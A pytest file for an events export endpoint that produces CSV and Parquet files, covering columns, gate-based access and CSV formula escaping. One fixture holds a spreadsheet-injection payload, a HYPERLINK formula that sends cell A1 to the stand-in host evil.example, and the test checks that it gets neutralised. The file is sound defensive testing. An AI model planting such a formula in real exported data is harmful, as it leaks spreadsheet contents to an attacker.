import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime

import httpx
import pyarrow.parquet as pq
import pytest

from cloud.api.routes.export import COLUMNS, safe_cell
from cloud.contract import Event, EventRecord, Label, Role
from tests.cloud.api.routes.test_events import code_of, page, post
from tests.cloud.conftest import GATE, OTHER_GATE, Login

Make = Callable[..., Event]
EXPORT = "/v1/events/export"


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


@pytest.fixture
def kept(device: httpx.Client, operator: httpx.Client, make_event: Make) -> list[EventRecord]:
    for label in (Label.WITH_MASK, Label.WITHOUT_MASK, Label.WITH_MASK):
        post(device, make_event(label, models={"classifier": "a" * 64}))
    return page(operator).items


def test_csv_has_a_row_for_each_event(operator: httpx.Client, kept: list[EventRecord]) -> None:
    answer = operator.get(EXPORT)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="maskgate-events')
    rows = rows_of(answer)
    assert [row["event_id"] for row in rows] == [str(event.id) for event in kept]
    assert list(rows[0]) == list(COLUMNS)
    assert rows[0]["accepted_at"] == kept[0].accepted_at.isoformat().replace("+00:00", "Z")
    assert [row["refusal_reason"] for row in rows] == ["", "no_mask", ""]
    assert rows[0]["pass_status"] == "issued"
    assert rows[0]["models"] == "classifier=" + "a" * 64
    assert answer.text.startswith('"event_id",')
    assert answer.text.endswith('"\r\n')


def test_parquet_has_the_same_rows_with_types(
    operator: httpx.Client, kept: list[EventRecord]
) -> None:
    answer = operator.get(EXPORT, params={"format": "parquet"})
    assert answer.headers["Content-Type"] == "application/vnd.apache.parquet"
    table = pq.read_table(io.BytesIO(answer.content))
    assert table.column_names == list(COLUMNS)
    assert table["event_id"].to_pylist() == [str(event.id) for event in kept]
    assert table["accepted_at"].to_pylist() == [event.accepted_at for event in kept]
    assert table["confidence"].to_pylist() == [0.97] * 3
    assert table["refusal_reason"].to_pylist() == [None, "no_mask", None]


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_nothing_is_a_file_without_rows(operator: httpx.Client, kind: str) -> None:
    answer = operator.get(EXPORT, params={"format": kind})
    if kind == "csv":
        assert rows_of(answer) == []
    else:
        assert pq.read_table(io.BytesIO(answer.content)).num_rows == 0


def test_a_file_holds_what_is_asked_for(
    login: Login, operator: httpx.Client, kept: list[EventRecord], make_event: Make
) -> None:
    post(login(Role.DEVICE, OTHER_GATE), make_event())
    assert len(rows_of(operator.get(EXPORT, params={"access": "refused"}))) == 1
    assert len(rows_of(operator.get(EXPORT, params={"gate": GATE}))) == 3
    assert len(rows_of(operator.get(EXPORT))) == 4
    bound = login(Role.VIEWER, OTHER_GATE)
    assert [row["gate"] for row in rows_of(bound.get(EXPORT))] == [OTHER_GATE]
    assert code_of(bound.get(EXPORT, params={"gate": GATE})) == "gate_forbidden"
    assert operator.get(EXPORT, params={"format": "xlsx"}).status_code == 422


def test_no_cell_is_a_formula(
    device: httpx.Client, operator: httpx.Client, make_event: Make
) -> None:
    role = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
    post(device, make_event(models={role: "b" * 64}))
    (row,) = rows_of(operator.get(EXPORT))
    assert row["models"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝"])
def test_what_a_spreadsheet_takes_for_a_formula_is_made_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("cell", ["main", "", None, 0.97, -3, "ñ🎭", "a=b"])
def test_what_is_no_formula_is_left_as_it_is(cell: str | float | None) -> None:
    assert safe_cell(cell) == cell


def test_a_moment_is_written_as_rfc_3339() -> None:
    assert safe_cell(datetime(2026, 3, 2, 8, 15, 30, 20_000, UTC)) == "2026-03-02T08:15:30.020000Z"
